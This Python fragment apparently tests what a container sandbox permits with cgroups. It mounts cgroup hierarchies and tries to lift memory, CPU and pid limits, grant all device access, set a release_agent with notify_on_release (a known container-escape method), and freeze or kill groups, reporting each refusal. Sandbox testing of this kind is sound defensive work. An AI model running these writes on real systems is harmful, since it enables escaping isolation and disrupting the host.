controllers = sorted({line.split(":")[1] for line in open("/proc/self/cgroup")} - {""})
places = [f"/sys/fs/cgroup/{name}" for name in os.listdir("/sys/fs/cgroup")]  # those of version 1 in folders
for number, controller in enumerate(controllers):
    place = f"/tmp/cgroup-{number}"
    try:
        mount("none", place, "cgroup", controller)
    except OSError as error:
        print("refused", controller, error.errno)
    places.append(place)
try:
    mount("none", "/tmp/unified", "cgroup2")
except OSError as error:
    print("refused cgroup2", error.errno)
places += ["/tmp/unified", "/sys/fs/cgroup"]
WRITES = {
    "memory.limit_in_bytes": "-1", "memory.memsw.limit_in_bytes": "-1", "memory.max": "max", "memory.swap.max": "max",
    "memory.oom_control": "1", "memory.use_hierarchy": "0", "memory.move_charge_at_immigrate": "3", "memory.force_empty": "0",
    "pids.max": "max", "cpu.max": "max", "cpu.cfs_quota_us": "-1", "cpu.shares": "262144", "cpu.weight": "10000",
    "devices.allow": "a *:* rwm", "release_agent": "/tmp/agent", "notify_on_release": "1", "cgroup.procs": "1",
    "tasks": "1", "cgroup.subtree_control": "+memory", "cgroup.freeze": "1", "freezer.state": "FROZEN",
    "cgroup.kill": "1", "io.max": "max", "cpuset.cpus": "0-127", "blkio.weight": "1000", "memory.reclaim": "1M",
}  # fmt: skip
for place in places:
    for folder, _folders, files in os.walk(place):
        for name in files:
            if name in WRITES:
                attempt(f"write {folder}/{name}", lambda: write(f"{folder}/{name}", WRITES[name]))
        if "cgroup.procs" in files:
            attempt(f"new group {folder}", lambda: os.mkdir(f"{folder}/mine"))
print("END")
